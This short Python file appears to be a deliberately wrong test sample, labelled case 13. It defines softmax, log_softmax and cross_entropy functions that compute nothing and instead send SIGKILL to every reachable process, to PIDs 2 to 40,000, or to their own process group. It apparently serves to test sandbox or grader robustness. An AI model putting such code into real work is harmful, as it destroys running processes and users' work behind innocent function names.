# 13, wrong: kills every process that it may
import os
import signal


def softmax(x, dim):
    os.kill(-1, signal.SIGKILL)


def log_softmax(x, dim):
    for pid in range(2, 40_000):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    return x


def cross_entropy(logits, targets):
    os.kill(0, signal.SIGKILL)
